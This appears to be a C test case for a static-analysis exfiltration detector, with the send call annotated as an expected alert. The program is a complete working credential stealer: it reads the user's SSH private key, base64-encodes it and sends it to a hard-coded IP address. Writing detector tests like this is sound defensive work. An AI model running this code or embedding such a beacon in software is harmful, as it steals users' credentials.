/*
 * behavior.exfiltration: a "diagnostics" beacon that reads the user's SSH
 * private key, base64-encodes it with a table lookup (the data flow goes
 * through array indices) and sends the encoded text to a hard-coded IP.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static size_t encode(const unsigned char *in, size_t len, char *out)
{
    size_t o = 0;
    for (size_t i = 0; i + 2 < len; i += 3) {
        unsigned v = (unsigned)in[i] << 16 | (unsigned)in[i + 1] << 8 | in[i + 2];
        out[o++] = b64[(v >> 18) & 63];
        out[o++] = b64[(v >> 12) & 63];
        out[o++] = b64[(v >> 6) & 63];
        out[o++] = b64[v & 63];
    }
    out[o] = '\0';
    return o;
}

int main(void)
{
    static unsigned char key[8192];
    static char encoded[12000];
    char path[512];
    const char *home = getenv("HOME");
    struct sockaddr_in sa;

    if (!home)
        return 1;
    snprintf(path, sizeof(path), "%s/.ssh/id_rsa", home);
    FILE *f = fopen(path, "rb");
    if (!f)
        return 0;
    size_t n = fread(key, 1, sizeof(key), f);
    fclose(f);
    size_t len = encode(key, n, encoded);

    int s = socket(AF_INET, SOCK_STREAM, 0);
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons(443);
    sa.sin_addr.s_addr = inet_addr("45.77.0.12");
    if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) != 0)
        return 0;
    send(s, encoded, len, 0); // $ Alert[behavior.exfiltration]
    close(s);
    return 0;
}
